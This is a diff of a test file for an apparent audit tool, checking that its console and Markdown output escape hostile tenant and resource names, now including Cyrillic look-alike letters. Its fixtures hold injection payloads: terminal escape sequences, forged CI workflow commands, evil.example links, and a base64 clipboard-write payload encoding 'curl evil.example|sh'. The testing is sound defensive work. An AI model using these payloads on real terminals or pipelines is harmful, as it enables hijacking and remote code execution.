@@ -141,7 +141,7 @@ function hostileDocument(): FindingsDocument {
     hostileFinding(base, `vnet-${CSI_CLEAR}-p\u0430ypal`, `Location westeurope ${OSC8}${MASK} see https://evil.example/x @org/team #123 [x](https://evil.example) ![i](http://e.example/i.png) www.evil.example <b>x</b> a\\|b`),
     ...doc.results,
   ];
-  return { ...doc, tenantName: `Exempelkommun${MASK}`, results, summary: summarize(results), coverage: [...doc.coverage, { ...doc.coverage[0]!, code: `${FORGED}${OSC52}` }] };
+  return { ...doc, tenantName: `Ex\u0435mpelkommun${MASK}`, results, summary: summarize(results), coverage: [...doc.coverage, { ...doc.coverage[0]!, code: `${FORGED}${OSC52}` }] };
 }
 
 describe("the console summary (stdout)", () => {
@@ -153,7 +153,7 @@ describe("the console summary (stdout)", () => {
   });
 
   it("shows the hostile tenant name, code and message escaped, not dropped", () => {
-    expect(text).toContain("Hemvist audit — Exempelkommun\\u000a::add-mask::critical");
+    expect(text).toContain("Hemvist audit — Ex\u0435mpelkommun\\u000a::add-mask::critical (warning: name mixes Latin with Cyrillic or Greek letters (possible look-alike))\n");
     expect(text).toContain("\\u003a:error file=x::forged\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\u0007");
     expect(text).toContain("…/virtualNetworks/vnet-\\u001b[2J-p\u0430ypal — Location westeurope \\u001b]8;;http://evil.example/\\u0007klicka");
     expect(text).toContain("  /tmp/out/::x");
@@ -204,6 +204,9 @@ describe("summary.md: nothing GitHub would link, mention or reference; raw HTML 
     expect(md).not.toContain("<b>");
     expect(md).toContain("`https://evil.example/x`");
     expect(md).toContain("`@org/team`");
+    expect(md.split("\n")[0]).toBe(
+      `# Hemvist – data residency: Ex\u0435mpelkommun ::add-mask::critical (${makeDocument().tenantId}) ⚠️ (warning: name mixes Latin with Cyrillic or Greek letters (possible look-alike))`,
+    );
     expect(md).toContain("`#123`");
     // The look-alike name is marked in the resource cell.
     expect(md).toContain(" ⚠️ (warning: name contains bidirectional control characters that can reorder how it is shown; name mixes Latin with Cyrillic or Greek letters (possible look-alike))");
